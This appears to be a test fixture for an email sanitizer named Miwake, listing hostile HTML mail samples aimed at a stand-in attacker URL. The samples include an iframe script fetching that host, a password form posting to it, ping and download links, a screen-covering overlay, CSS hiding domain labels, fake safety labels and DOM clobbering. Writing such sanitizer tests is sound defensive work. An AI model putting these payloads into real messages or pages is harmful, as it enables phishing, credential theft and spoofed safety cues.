/** Frames, plug-ins, forms, and covering what Miwake shows. */
import { hostileUrl as at, hostile } from './kit.ts'

export const embedMails = [
  hostile('iframe', `<iframe src="${at}/f"></iframe><iframe srcdoc="<script>fetch('${at}')</script>"></iframe>`),
  hostile('frameset', `<frameset><frame src="${at}/f"></frameset>`),
  hostile(
    'object',
    `<object data="${at}/o"><embed src="${at}/e"></object><embed src="${at}/e2"><applet code="${at}/a"></applet>`,
  ),
  hostile('object-param', `<object><param name=movie value="${at}/o"><img src="${at}/i"></object>`),
  hostile(
    'media',
    `<video src="${at}/v" poster="${at}/p" autoplay></video><audio src="${at}/a"></audio><track src="${at}/t">`,
  ),
  hostile('portal', `<portal src="${at}"></portal><fencedframe src="${at}"></fencedframe>`),
  hostile(
    'form',
    `<form action="${at}/post" method=post><input name=password type=password><button>Go</button></form>`,
  ),
  hostile(
    'form-attributes',
    `<form id=f></form><button form=f formaction="${at}/post">Go</button><input type=image src="${at}/i" formaction="${at}">`,
  ),
  hostile('form-isindex', `<isindex action="${at}" prompt="x"><keygen><input list=l><datalist id=l></datalist>`),
  hostile('ping', `<a href="${at}/a" ping="${at}/ping">x</a>`),
  hostile(
    'area-map',
    `<img usemap="#m" src="${at}/i"><map name=m><area href="${at}/a" ping="${at}/p" shape=default></map>`,
  ),
  hostile('target-top', `<a href="${at}/a" target="_top">x</a><a href="${at}/b" target="_parent">y</a>`),
  hostile('window-opener', `<a href="${at}/a" rel="opener" target="x">x</a>`),
  hostile('download', `<a href="${at}/a.exe" download>x</a>`),
  hostile(
    'cover-all',
    `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">x</div>`,
  ),
  hostile(
    'hide-labels',
    `<style>.mw-domain,span{display:none!important;font-size:0!important}</style><a href="${at}/a">https://www.example.com/</a>`,
  ),
  hostile('own-classes', `<span class="mw-domain">example.com</span><span class="MW-note x">Miwake: safe</span>`),
  hostile('id-clobber', `<img id=body name=cookie><form id=document><input name=getElementById></form>`),
  hostile('slot-custom', `<x-y is="z" onclick="x()" slot=a part=b><slot name=a></slot></x-y>`),
  hostile('popover', `<button popovertarget=p>x</button><div popover id=p>y</div><dialog open>z</dialog>`),
  hostile('contenteditable', `<div contenteditable autofocus spellcheck=true draggable=true accesskey=x>y</div>`),
]
